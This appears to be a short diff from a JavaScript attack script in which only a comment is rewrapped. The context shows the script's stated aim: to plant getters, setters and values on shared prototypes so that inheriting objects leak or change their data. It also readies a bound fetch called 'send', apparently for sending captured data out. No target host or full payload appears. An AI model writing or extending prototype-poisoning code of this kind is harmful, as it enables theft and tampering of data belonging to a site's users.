@@ -1,4 +1,5 @@
-// Adds getters, setters and values to the shared prototypes, so that objects that inherit these properties leak or change.
+// Adds getters, setters and values to the shared prototypes, so that objects that inherit these properties leak or
+// change their data.
 (() => {
   const { apply, defineProperty, getOwnPropertyDescriptor, ownKeys } = Reflect;
   const indexOf = String.prototype.indexOf, send = fetch.bind(window), text = JSON.stringify;
